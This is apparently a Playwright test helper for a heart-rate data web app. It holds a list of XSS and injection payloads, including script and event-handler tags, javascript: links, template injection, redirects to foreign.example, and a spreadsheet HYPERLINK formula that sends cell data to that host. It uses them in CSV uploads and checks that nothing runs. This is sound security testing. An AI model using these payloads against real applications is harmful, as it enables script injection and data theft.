import { expect, type Page } from "@playwright/test";
import { realBeats, textFile, type TestFile } from "./heart-rate-files.ts";

/** Texts that run, lead away or break a page where somebody puts them into it as anything but text. */
export const PAYLOADS: readonly string[] = [
  "<script>window.__pwned=1</script>",
  "<img src=x onerror=window.__pwned=1>",
  '"><svg/onload=window.__pwned=1>',
  "<iframe srcdoc='<script>parent.__pwned=1</script>'>",
  "' onmouseover=window.__pwned=1 autofocus onfocus=window.__pwned=1 x='",
  "javascript:window.__pwned=1",
  "[a link](javascript:window.__pwned=1) ![an image](https://foreign.example/x.png)",
  "{{constructor.constructor('window.__pwned=1')()}} ${window.__pwned=1} <%= window.__pwned=1 %>",
  "</style><style>*{display:none!important}</style>",
  "<base href=https://foreign.example><meta http-equiv=refresh content=0;url=https://foreign.example>",
  "\u202egnp.exe\u2066\u2067 turned round",
  '=HYPERLINK("https://foreign.example/?"&A1,"open")',
  "__proto__",
  "W".repeat(400),
];

/** A text that has them all in it, short enough for a field of a form. */
export const MIXED = `<img src=x onerror=window.__pwned=1><svg/onload=window.__pwned=1>${"W".repeat(120)}`;

/** A name of a file that systems take. */
export const HOSTILE_NAME = `<img src=x onerror=window.__pwned=1>${"W".repeat(150)}`;

export interface Witness {
  /** what has happened so far that must not */
  readonly seen: () => Promise<readonly string[]>;
}

/** Watches a page from before its first script on: dialogs, violations of the policy, requests to other origins, and what the payloads set. */
export async function watch(page: Page): Promise<Witness> {
  const seen: string[] = [];
  page.on("dialog", (dialog) => {
    seen.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    const { protocol, hostname } = new URL(request.url());
    if (!["blob:", "data:"].includes(protocol) && hostname !== "localhost") seen.push(`request ${request.url()}`);
    if (/\/x(?:\.png)?$/.test(request.url())) seen.push(`request ${request.url()}`);
  });
  page.on("popup", (popup) => seen.push(`window ${popup.url()}`));
  await page.addInitScript(() => {
    const own = window as unknown as { violations: string[] };
    own.violations = [];
    document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) => own.violations.push(`${violatedDirective} ${blockedURI}`));
  });
  return {
    seen: async () => [
      ...seen,
      ...(await page.evaluate(() => {
        const own = window as unknown as { violations: string[]; __pwned?: unknown };
        const injected = [...document.querySelectorAll("iframe, base, object, embed, body script, img[src='x'], [onerror], [onload], [onfocus], [onmouseover], a[href^='javascript:'], a[href*='foreign.example'], meta[http-equiv='refresh']")];
        return [...own.violations.map((violation) => `violation ${violation}`), ...(own.__pwned === undefined ? [] : ["a payload ran"]), ...injected.map(({ outerHTML }) => `element ${outerHTML.slice(0, 120)}`)];
      })),
    ],
  };
}

/** Nothing has run on this screen, and it stays as wide as the window, on a phone too. */
export async function expectInert(page: Page, witness: Witness, screen: string): Promise<void> {
  for (const width of [1440, 390]) {
    await page.setViewportSize({ width, height: 900 });
    await expect.poll(() => page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth), { message: `${screen} at ${width} px` }).toBeLessThanOrEqual(0);
    expect(await witness.seen(), screen).toEqual([]);
  }
  await page.setViewportSize({ width: 1440, height: 900 });
}

/** Goes to a screen within the page, as a link does: a reload would ask to sign in. */
export async function show(page: Page, hash: string, shows: string | RegExp = /./): Promise<void> {
  await page.evaluate((address) => (location.hash = address), hash);
  await expect(page.locator("main")).toContainText(shows);
}

/** A cell of a CSV. */
export const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;

/** A patient of each payload, below columns that are called so. */
export function heartRateFile(name = `${HOSTILE_NAME}.csv`): TestFile {
  const header = ["time", "patient", "hr", "label", ...PAYLOADS.slice(0, 3)].map(quoted).join(",");
  const beats = realBeats(40);
  const rows = PAYLOADS.flatMap((payload) => beats.map(({ timeS, rate, label }) => [String(timeS), quoted(payload), String(rate), String(label), ...PAYLOADS.slice(1, 4).map(quoted)].join(",")));
  return textFile(name, [header, ...rows].join("\n"));
}
